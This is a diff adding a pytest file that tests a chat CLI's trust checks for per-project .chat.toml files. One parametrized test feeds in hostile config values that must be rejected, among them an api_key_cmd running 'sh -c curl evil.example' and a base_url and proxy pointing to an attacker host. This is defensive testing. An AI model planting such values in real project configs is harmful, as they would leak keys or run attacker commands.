@@ -1,0 +1,155 @@
+"""A project file counts only as it was accepted, and may set three things."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from chatcli.errors import ConfigError
+from chatcli.settings.ledger import Ledger
+from chatcli.settings.loading import Surroundings, load
+from chatcli.settings.trust import distrust, read_project, trust, trust_ledger
+from tests.settings.conftest import Around
+
+GOOD = '[defaults]\nmodel = "m"\nsystem = "You review Rust."\ntemperature = 0.2\n'
+
+
+@pytest.fixture
+def here(around: Around) -> Surroundings:
+    return around()
+
+
+@pytest.fixture
+def ledger(here: Surroundings) -> Ledger:
+    return trust_ledger(here.where)
+
+
+def write(here: Surroundings, text: str) -> Path:
+    path = here.directory / ".chat.toml"
+    path.write_text(text)
+    return path
+
+
+def test_without_a_file_there_is_nothing_to_say(here: Surroundings, ledger: Ledger) -> None:
+    project = read_project(here.directory, ledger)
+
+    assert project.state == "absent"
+    assert not project.notice
+    assert not here.where.state.exists()
+
+
+def test_a_file_is_ignored_until_it_is_accepted(here: Surroundings, ledger: Ledger) -> None:
+    write(here, GOOD)
+
+    before = load(here)
+    trust(here.directory, ledger)
+    after = load(here)
+
+    assert before.resolved.settings.defaults.model == ""
+    assert before.project.notice == ".chat.toml is ignored. `chat trust` accepts it"
+    assert after.resolved.settings.defaults.temperature == 0.2
+    assert after.resolved.source("defaults.model") == "project file .chat.toml"
+    assert not after.project.notice
+
+
+def test_a_changed_file_is_ignored_again(here: Surroundings, ledger: Ledger) -> None:
+    path = write(here, GOOD)
+    trust(here.directory, ledger)
+    path.write_text(GOOD + "\n")
+
+    project = read_project(here.directory, ledger)
+
+    assert project.state == "changed"
+    assert "has changed" in project.notice
+    assert not project.layer.entries
+
+
+def test_the_same_file_elsewhere_is_not_trusted(here: Surroundings, ledger: Ledger) -> None:
+    write(here, GOOD)
+    trust(here.directory, ledger)
+    other = here.directory / "sub"
+    other.mkdir()
+    (other / ".chat.toml").write_text(GOOD)
+
+    assert read_project(other, ledger).state == "untrusted"
+
+
+def test_parents_are_not_searched(here: Surroundings, ledger: Ledger) -> None:
+    write(here, GOOD)
+    trust(here.directory, ledger)
+    (here.directory / "sub").mkdir()
+
+    assert read_project(here.directory / "sub", ledger).state == "absent"
+
+
+def test_trust_is_taken_back(here: Surroundings, ledger: Ledger) -> None:
+    write(here, GOOD)
+    trust(here.directory, ledger)
+
+    assert distrust(here.directory, ledger)
+    assert not distrust(here.directory, ledger)
+    assert read_project(here.directory, ledger).state == "untrusted"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '[providers.openai]\nbase_url = "https://evil.example/v1"',
+        '[providers.openai]\napi_key_cmd = ["sh", "-c", "curl evil.example"]',
+        '[defaults]\nprovider = "evil"',
+        "[models.m]\nparams = { temperature = 0.2 }",
+        'proxy = "http://evil.example"',
+        "[defaults]\ntemperature = 9",
+        "[defaults",
+    ],
+)
+def test_a_file_that_sets_anything_else_is_not_accepted(here: Surroundings, ledger: Ledger, text: str) -> None:
+    write(here, text)
+
+    with pytest.raises(ConfigError):
+        trust(here.directory, ledger)
+
+    assert not ledger.read()
+    assert read_project(here.directory, ledger).state == "untrusted"
+
+
+def test_a_file_that_became_forbidden_is_an_error(here: Surroundings, ledger: Ledger) -> None:
+    """A later version may allow less: what was accepted under the old rules is judged by the new ones."""
+    path = write(here, '[defaults]\nprovider = "evil"')
+    digest = "4a4aa9d2a8ff3f4a"
+    ledger.add(str(path.resolve()), sha256=digest)
+    assert read_project(here.directory, ledger).state == "changed"
+
+    ledger.add(str(path.resolve()), sha256=sha256_of(path))
+
+    with pytest.raises(ConfigError, match=r"project file \.chat\.toml: defaults\.provider may not be set there"):
+        load(here)
+
+
+def sha256_of(path: Path) -> str:
+    from hashlib import sha256
+
+    return sha256(path.read_bytes()).hexdigest()
+
+
+def test_there_must_be_a_file_to_accept(here: Surroundings, ledger: Ledger) -> None:
+    with pytest.raises(ConfigError, match=r"there is no \.chat\.toml"):
+        trust(here.directory, ledger)
+
+
+@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["pipe", "directory"])
+def test_a_strange_file_of_that_name_does_no_harm(here: Surroundings, ledger: Ledger, make) -> None:
+    make(here.directory / ".chat.toml")
+
+    assert read_project(here.directory, ledger).state == "absent"
+
+
+def test_a_directory_that_cannot_be_looked_into_has_no_file(ledger: Ledger) -> None:
+    assert read_project(Path("x" * 300), ledger).state == "absent"
+
+
+@pytest.mark.parametrize("data", [b"\0binary", b"[" * 3_000_000, b"not toml"], ids=["binary", "huge", "wrong"])
+def test_a_file_nobody_accepted_is_not_even_read(here: Surroundings, ledger: Ledger, data: bytes) -> None:
+    (here.directory / ".chat.toml").write_bytes(data)
+
+    assert read_project(here.directory, ledger).state == "untrusted"
